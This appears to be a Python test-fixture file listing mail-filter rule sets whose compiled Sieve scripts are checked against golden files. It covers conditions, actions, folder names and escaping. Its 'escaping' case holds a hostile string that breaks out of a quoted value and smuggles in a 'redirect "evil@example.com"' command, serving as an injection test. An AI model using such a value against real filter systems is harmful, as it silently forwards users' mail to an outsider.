"""Rule sets whose compiled scripts are pinned in golden/<name>.sieve."""

from mailservice.sieve import Action, Condition, Rule

HOSTILE = '";\nredirect "evil@example.com";\r\n# ${1} \\ \x00 \x7f é 日本'

CASES: dict[str, dict] = {
    "guide_facebook": {
        "rules": [
            Rule(
                "Facebook",
                conditions=(Condition("from", "contains", "facebook.com"),),
                actions=(Action("move", "fb"),),
            ),
        ],
    },
    "every_condition": {
        "rules": [
            Rule(
                "Any text test",
                match="any",
                conditions=(
                    Condition("from", "contains", "facebook.com"),
                    Condition("to", "not_contains", "alice"),
                    Condition("cc", "is", "team@domain.xyz"),
                    Condition("reply_to", "is_not", "support@partner.example"),
                    Condition("subject", "matches", "Re: *[?]*"),
                    Condition("subject", "regex", r"^\[(SL|LIST)-[0-9]+\]"),
                    Condition("cc", "exists"),
                ),
                actions=(Action("move", "Tests/Text"),),
            ),
            Rule(
                "All other tests",
                match="all",
                conditions=(
                    Condition("size", "over", "500K"),
                    Condition("size", "under", "2 MB"),
                    Condition("body", "contains", "Invoice number"),
                    Condition("body", "not_contains", "unsubscribe"),
                    Condition("email_type", "is", "transactional"),
                    Condition("email_type", "is_not", "spam"),
                ),
                actions=(Action("move", "Tests/Other"),),
            ),
        ],
    },
    "every_action": {
        "rules": [
            Rule(
                "Flags go first, stop goes last",
                conditions=(Condition("from", "is", "boss@domain.xyz"),),
                actions=(
                    Action("stop"),
                    Action("move", "Boss"),
                    Action("mark_read"),
                    Action("copy", "Archive/2026"),
                    Action("flag"),
                    Action("mark_read"),
                ),
            ),
            Rule(
                "Forward, keeping a copy",
                conditions=(Condition("subject", "contains", "invoice"),),
                actions=(Action("forward", "accounting@domain.xyz", keep_copy=True),),
            ),
            Rule(
                "Forward without a copy",
                conditions=(Condition("to", "is", "old@domain.xyz"),),
                actions=(Action("forward", "new@domain.xyz"),),
            ),
            Rule(
                "Delete",
                conditions=(Condition("email_type", "is", "spam"),),
                actions=(Action("delete"), Action("stop")),
            ),
        ],
    },
    "escaping": {
        "rules": [
            Rule(
                HOSTILE,
                match="any",
                conditions=(
                    Condition("subject", "contains", HOSTILE),
                    Condition("from", "matches", '*\\"*'),
                    Condition("body", "contains", "${hex:24}{x}"),
                ),
                actions=(Action("move", 'Dossier "spécial"/back\\slash'),),
            ),
        ],
    },
    "disabled_and_folders": {
        "rules": [
            Rule(
                "Disabled: never compiled",
                enabled=False,
                conditions=(Condition("from", "contains", "secret-value"),),
                actions=(Action("delete"),),
            ),
            Rule(
                "INBOX prefix is dropped",
                conditions=(Condition("subject", "contains", "réunion"),),
                actions=(Action("move", " INBOX/Réunions/2026 "), Action("copy", "inbox/日本")),
            ),
            Rule(
                "Mailing list",
                conditions=(Condition("to", "contains", "scientific-linux-devel"),),
                actions=(Action("move", "Mail List/SL-Devel"),),
            ),
        ],
    },
    "custom_type_header": {
        "rules": [
            Rule(
                "Bounces",
                conditions=(Condition("email_type", "is", "bounce"),),
                actions=(Action("move", "Bounces"), Action("mark_read")),
            ),
        ],
        "email_type_header": "X-Infomaniak-Type",
    },
    "empty": {"rules": []},
}
